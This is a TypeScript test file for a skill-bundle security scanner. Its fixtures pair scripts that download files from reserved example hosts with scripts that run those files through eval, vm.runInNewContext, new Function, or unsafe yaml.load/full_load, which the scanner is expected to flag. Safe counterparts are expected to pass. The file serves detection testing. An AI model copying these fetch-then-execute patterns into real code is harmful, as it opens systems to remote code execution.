/**
 * Third round of analyzer gaps (issue #3), each reproduced by a minimal shape of its own before it
 * was closed, beside the opposite case so the fix cannot over-reach:
 * (e) JS: a file read into a name and evaluated on a later line (`const src =
 * fs.readFileSync(P)` … `eval(src)`, `vm.runInNewContext(code)`) where another file saved P from
 * the network; (f) Python: `yaml.load(text, Loader=yaml.Loader)` (or `full_load`) of a file another
 * script saved from the network.
 * Every host is reserved (example.*, *.invalid, documentation IPs); scanned without a skill.json.
 */
import { scanFiles } from '../index.js';
import type { ScanReport } from '../types.js';
import { file, plainSkillMd, type File } from './skills.js';
import { expectVerdicts } from './verdicts.js';

type Files = Record<string, string>;
type Multi = [string, Files];

/** the files beside a SKILL.md (the plain one unless the case has its own) */
function scanMulti(_name: string, files: Files): ScanReport {
  const list: File[] = Object.entries(files).map(([p, t]) => file(p, t));
  return scanFiles(files['SKILL.md'] ? list : [plainSkillMd, ...list]);
}

// ---- e. JS: a downloaded file read, then evaluated on a later line -------------------------------

const jsSaver = `const fs = require('fs');
fetch('https://cdn.example.com/plugin.js')
  .then((r) => r.text())
  .then((t) => fs.writeFileSync('cache/plugin.js', t));
`;

const jsReadEval: Multi[] = [
  [
    'e1 vm.runInNewContext of a name read earlier',
    {
      'scripts/get.js': jsSaver,
      'scripts/run.js': `const fs = require('fs');
const vm = require('vm');
const code = fs.readFileSync('cache/plugin.js', 'utf8');
vm.runInNewContext(code, {});
`,
    },
  ],
  [
    'e2 eval of an awaited read, stringified',
    {
      'scripts/get.js': jsSaver,
      'scripts/run.mjs': `import { promises as fsp } from 'node:fs';
export async function load() {
  const buf = await fsp.readFile('cache/plugin.js');
  return eval(buf.toString());
}
`,
    },
  ],
  [
    'e3 new Function with the read text as body',
    {
      'scripts/get.js': jsSaver,
      'scripts/run.js': `const { readFileSync } = require('fs');
const body = readFileSync('cache/plugin.js', 'utf8');
const plugin = new Function('api', body);
plugin({});
`,
    },
  ],
];

const jsReadKept: Multi[] = [
  [
    'eb1 the downloaded file parsed as JSON, an unrelated template compiled',
    {
      'scripts/get.js': `const fs = require('fs');
fetch('https://api.example.com/data.json')
  .then((r) => r.text())
  .then((t) => fs.writeFileSync('cache/data.json', t));
`,
      'scripts/run.js': `const fs = require('fs');
const data = JSON.parse(fs.readFileSync('cache/data.json', 'utf8'));
const code = fs.readFileSync('cache/data.json', 'utf8');
console.log(data.items.length, code.length);
`,
    },
  ],
  [
    'eb2 a shipped template read and run, beside a download of another file',
    {
      'scripts/get.js': jsSaver,
      'scripts/render.js': `const fs = require('fs');
const vm = require('vm');
const tpl = fs.readFileSync('templates/card.js', 'utf8');
console.log(vm.runInNewContext(tpl, { title: 'x' }));
`,
      'scripts/templates/card.js': '`<h1>${title}</h1>`;\n',
    },
  ],
];

expectVerdicts(
  'e. a downloaded file read and evaluated later by another file fails',
  jsReadEval,
  scanMulti,
  'fail',
);
expectVerdicts('e. a downloaded file read as data does not fail', jsReadKept, scanMulti, {
  not: 'fail',
});

// ---- f. Python: yaml.load with an object-building Loader of a file another script saved ---------

const pySaver = `import requests
r = requests.get("https://cfg.example.net/p.yaml", timeout=10)
with open("data/p.yaml", "w") as f:
    f.write(r.text)
`;

const pyYamlLoads: Multi[] = [
  [
    'f1 Loader=yaml.Loader of the read text',
    {
      'scripts/get.py': pySaver,
      'scripts/use.py': `import yaml
text = open("data/p.yaml").read()
cfg = yaml.load(text, Loader=yaml.Loader)
print(cfg)
`,
    },
  ],
  [
    'f2 UnsafeLoader positionally, of the open file',
    {
      'scripts/get.py': pySaver,
      'scripts/use.py': `import yaml
with open("data/p.yaml") as fh:
    cfg = yaml.load(fh, yaml.UnsafeLoader)
`,
    },
  ],
  [
    'f3 full_load of a Path read',
    {
      'scripts/get.py': pySaver,
      'scripts/use.py': `from pathlib import Path
import yaml
cfg = yaml.full_load(Path("data/p.yaml").read_text())
`,
    },
  ],
];

const pyYamlSafe: Multi[] = [
  [
    'fb1 SafeLoader of the downloaded file',
    {
      'scripts/get.py': pySaver,
      'scripts/use.py': `import yaml
text = open("data/p.yaml").read()
cfg = yaml.load(text, Loader=yaml.SafeLoader)
`,
    },
  ],
  [
    'fb2 safe_load of the downloaded file',
    {
      'scripts/get.py': pySaver,
      'scripts/use.py': `import yaml
with open("data/p.yaml") as fh:
    cfg = yaml.safe_load(fh)
`,
    },
  ],
];

expectVerdicts(
  "f. an object-building yaml load of another script's download fails",
  pyYamlLoads,
  scanMulti,
  'fail',
);
expectVerdicts('f. a safe yaml load of a download does not fail', pyYamlSafe, scanMulti, {
  not: 'fail',
});
